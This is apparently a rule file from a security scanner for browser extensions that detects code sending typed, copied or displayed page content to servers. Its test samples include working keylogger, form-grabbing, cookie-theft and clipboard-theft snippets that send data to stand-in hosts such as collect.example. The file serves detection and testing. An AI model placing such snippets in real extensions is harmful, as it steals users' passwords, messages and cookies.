import { isSentByServer, isToldOfServer } from '../../extension/isFromServer.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import { hitsOfFlows } from '../../taint/hits.ts';
import { placeAt, show } from '../../facts/javascript/query.ts';
import type { SourceKind } from '../../taint/kinds.ts';
import { sample } from '../../testing/sample.ts';
import { dataClassOf } from '../../verdict/dataClassOf.ts';
import { isTakenToMaker } from '../../verdict/isTakenToMaker.ts';
import { receiverOf } from '../../verdict/receiverOf.ts';
import { sendingVerdict } from '../../verdict/sendingVerdict.ts';
import { sendingWeight } from '../../verdict/sendingWeight.ts';
import { defineRule } from '../../rule.ts';
import { say } from '../../../texts/say.ts';

/** What is typed into pages, shown in them or kept by them. */
const KINDS: ReadonlySet<SourceKind> = new Set<SourceKind>([
  'keys',
  'form-input',
  'clipboard',
  'page-cookies',
  'page-storage',
  'page-content',
  'screenshot',
  'geolocation',
  'speech',
]);

export default defineRule({
  id: 'input-to-network',
  title: 'Sends typed or displayed page content to a server',
  severity: 'high',
  confidence: 'high',
  category: 'flows',
  applies: 'extension',
  cwe: 'CWE-359',
  why: 'Keystrokes, form fields, the clipboard or page content leave the browser. Passwords, messages and bank pages look the same to such code.',
  remedy: 'Send page content only when the user asks, only what is needed, and never from password or payment fields.',
  cap: { grade: 'F', reason: 'it sends typed text or sign-in data to others', from: 'critical' },
  givesWayTo: ['one-time-codes-read'],
  *check(facts) {
    const { flows, forms } = facts.whole(flowsOf);
    yield* hitsOfFlows(flows, (flow) =>
      KINDS.has(flow.source.kind) && dataClassOf(facts, flow.source) !== 'private' && !isTakenToMaker(facts, flow)
        ? sendingWeight(facts, flow)
        : undefined,
    );
    for (const { unit, pos, value, to } of forms) {
      const { script } = unit;
      const isOpen = to.startsWith('*');
      if (isOpen && !isSentByServer(facts, script, value) && !isToldOfServer(facts, script, value)) continue;
      const receiver = isOpen ? undefined : receiverOf(facts, to);
      const severity = receiver === undefined ? 'high' : sendingVerdict('credentials', receiver, 'none');
      if (severity === undefined) continue;
      const place = placeAt(script, unit.file.path, pos);
      const evidence = show(script, value);
      yield {
        place,
        evidence,
        severity,
        message: say('form-input-sent-instead', isOpen ? evidence : to.slice(0, 80)),
        path: [
          { place, label: 'what is typed into a form of the page' },
          { place, label: 'is sent to another server' },
        ],
      };
    }
  },
  examples: {
    bad: [
      sample({
        background:
          'class Relay { constructor(to) { this.to = to; this.open(); } open() { this.socket = new WebSocket(this.to); } push(one) { this.socket.send(JSON.stringify(one)); } } const relay = new Relay("wss://codes.example/x"); chrome.runtime.onConnect.addListener((port) => port.onMessage.addListener((m) => relay.push({ ...m, from: port.sender.url })));',
        content:
          'const port = chrome.runtime.connect({ name: "a" }); document.addEventListener("keypress", (event) => port.postMessage({ k: event.key }), true);',
      }),
      sample({
        content:
          'function leave(all) { const form = document.createElement("form"); form.method = "POST"; form.action = "https://stats.example/r"; for (const name in all) { const field = document.createElement("input"); field.name = name; field.value = all[name]; form.append(field); } document.body.append(form); HTMLFormElement.prototype.submit.call(form); } document.addEventListener("click", () => { const all = {}; document.querySelectorAll("input").forEach((one) => { all[one.name] = one.value; }); leave(all); });',
      }),
      sample({ content: 'fetch("https://collect.example/c", { method: "POST", body: document.cookie });' }),
      sample({
        content: "document.querySelectorAll('form').forEach((f) => { f.action = 'https://collect.example/f'; });",
      }),
      sample({
        background:
          'chrome.tabs.onUpdated.addListener((id) => { chrome.tabs.executeScript(id, { code: \'document.addEventListener("keydown", (e) => { fetch("https://collect.example/k?" + e.key); });\' }); });',
      }),
      sample({
        content:
          "setInterval(() => { let o = {}; document.querySelectorAll('input').forEach(i => o[i.name] = i.value); fetch('https://collect.example/f', {method: 'POST', body: JSON.stringify(o)}) }, 3000);",
      }),
      sample({
        content:
          "for (let i = 0; i < document.forms.length; i++) document.forms[i].addEventListener('submit', function () { fetch('https://collect.example/f', {method: 'POST', body: new FormData(this)}) });",
      }),
      sample({
        content: 'document.addEventListener("keydown", (e) => { fetch("https://collect.example/k?" + e.key); });',
      }),
      sample({
        content:
          'document.forms[0].addEventListener("submit", () => { const p = document.querySelector("input[type=password]").value; navigator.sendBeacon("https://collect.example/f", p); });',
      }),
      sample({
        content:
          'let buffer = ""; window.addEventListener("keypress", function (e) { buffer += String.fromCharCode(e.which) + e.key; }); setInterval(function () { chrome.runtime.sendMessage({ k: buffer }); }, 5000);',
        background:
          'chrome.runtime.onMessage.addListener((m) => { fetch("https://collect.example", { method: "POST", body: m.k }); });',
      }),
      sample({
        content: '$("input").on("change", function () { $.post("https://collect.example/v", { v: $(this).val() }); });',
      }),
      sample({
        content: 'navigator.clipboard.readText().then((t) => axios.post("https://collect.example/p", { t }));',
      }),
      sample({
        content:
          'const pc = new RTCPeerConnection(); const line = pc.createDataChannel("a"); document.addEventListener("change", (e) => { line.send(e.target.value); });',
      }),
      sample({
        content:
          'document.addEventListener("input", (e) => { document.body.style.backgroundImage = "url(https://collect.example/i.png?" + e.target.value + ")"; });',
      }),
      sample({
        content:
          'cookieStore.addEventListener("change", ({ changed }) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(changed) }); });',
      }),
      sample({
        files: {
          'bg.html': '<textarea id="pad"></textarea><script src="bg.js"></script>',
          'bg.js':
            'var sock = new WebSocket("wss://collect.example/c"); function look() { var pad = document.getElementById("pad"); pad.focus(); document.execCommand("paste"); if (pad.value) sock.send(pad.value); } chrome.windows.onFocusChanged.addListener(look);',
        },
        manifest: { background: { page: 'bg.html' }, manifest_version: 2 },
      }),
    ],
    good: [
      sample({
        content:
          "const f = document.createElement('form'); f.action = 'https://feedback.example/f'; document.body.append(f); document.forms[0].action = '/search';",
      }),
      sample({
        content:
          "const own = document.createElement('form'); own.innerHTML = '<input name=note>'; own.onsubmit = () => { chrome.storage.local.set({ note: own.elements.note.value }); fetch('https://api.example/ping', { method: 'POST' }); };",
      }),
      sample({
        files: {
          'bg.html': '<textarea id="pad"></textarea><script src="bg.js"></script>',
          'bg.js':
            'function clean() { var pad = document.getElementById("pad"); pad.focus(); document.execCommand("paste"); pad.value = pad.value.trim(); pad.select(); document.execCommand("copy"); } chrome.commands.onCommand.addListener(clean); fetch("https://api.example/ping");',
        },
        manifest: { background: { page: 'bg.html' }, manifest_version: 2 },
      }),
      sample({
        popup:
          'const r = new webkitSpeechRecognition(); r.onresult = (e) => { out.value += e.results[0][0].transcript; }; go.onclick = () => r.start(); fetch("https://api.example/ping");',
      }),
      sample({
        content:
          'const frame = document.createElement("iframe"); frame.src = chrome.runtime.getURL("side.html"); document.body.append(frame); frame.contentWindow.postMessage({ text: document.body.innerText }, "*");',
      }),
      sample({
        content:
          'document.addEventListener("input", (e) => { document.body.style.backgroundImage = "url(" + e.target.value + ")"; });',
      }),
      sample({
        content:
          'document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); fetch("https://api.example/ping"); }); function close() {}',
      }),
      sample({
        content: 'const n = document.querySelector("input").value.length; fetch("https://api.example/n?" + n);',
      }),
      sample({ content: 'document.querySelector("input").value = "x"; fetch("https://api.example/x");' }),
      sample({
        background:
          'chrome.tabs.captureVisibleTab(null, {}, (png) => { chrome.downloads.download({ url: png, filename: "a.png" }); });',
      }),
    ],
  },
});
